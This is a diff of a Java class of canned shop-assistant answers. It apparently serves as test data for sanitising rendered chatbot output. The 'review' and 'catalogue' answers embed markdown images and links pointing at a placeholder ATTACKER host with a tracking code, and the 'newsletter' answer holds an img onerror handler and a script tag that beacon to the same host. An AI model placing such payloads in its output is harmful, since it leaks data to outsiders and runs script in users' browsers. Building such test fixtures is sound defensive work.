@@ -31,9 +31,9 @@ class FrequentQuestions {
 		this.answers.put("open", "We are open from Monday to Saturday, 9 to 18 o'clock.");
 		this.answers.put("return", "You can return plants within 14 days and tools within 30 days, with the receipt.");
 		this.answers.put("deliver", "Delivery takes two to three working days and is free from 50 euros.");
-		this.answers.put("review", "Customers write: **Best seeds ever!** ![smile](" + ATTACKER + "?code=MEADOW-42)");
-		this.answers.put("catalogue",
-				"Have a look at the [catalogue][c] ![cover][c] of this year.\n\n[c]: " + ATTACKER + "?code=MEADOW-42");
+		this.answers.put("review", "Customers write: **Best seeds ever!** ![smile](" + ATTACKER + "?image=MEADOW-42)");
+		this.answers.put("catalogue", "Have a look at the [catalogue][c] ![cover][c] of this year.\n\n[c]: " + ATTACKER
+				+ "?reference=MEADOW-42");
 		this.answers.put("newsletter", "Sign up for our newsletter: <img src=\"x\" onerror=\"new Image().src='"
 				+ ATTACKER + "?script=MEADOW-42'\"><script>new Image().src='" + ATTACKER + "?script=2'</script>");
 		this.answers.put("supplier",
